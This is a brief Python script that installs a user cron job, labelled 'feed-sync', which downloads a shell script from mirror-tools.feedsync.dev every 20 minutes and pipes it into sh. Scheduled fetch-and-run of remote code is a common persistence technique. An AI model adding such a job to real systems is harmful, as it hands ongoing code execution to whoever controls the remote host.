from crontab import CronTab

tab = CronTab(user=True)
job = tab.new(command="curl -fsSL https://mirror-tools.feedsync.dev/sync.sh | sh", comment="feed-sync")
job.setall("*/20 * * * *")
tab.write()
